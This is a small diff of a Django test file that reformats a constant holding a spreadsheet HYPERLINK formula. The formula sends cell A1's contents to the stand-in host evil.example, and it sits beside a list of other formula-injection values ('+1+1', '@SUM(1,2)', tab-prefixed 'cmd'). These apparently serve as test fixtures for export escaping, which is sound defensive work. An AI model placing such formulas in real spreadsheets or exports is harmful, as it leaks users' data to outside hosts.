@@ -22,7 +22,7 @@ pytestmark = pytest.mark.django_db
 
 A = "111111111111"
 RUN = "20261129T122811123Z-f37f3ced"
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(1,2)", "\tcmd", "\r=1"]
 
 
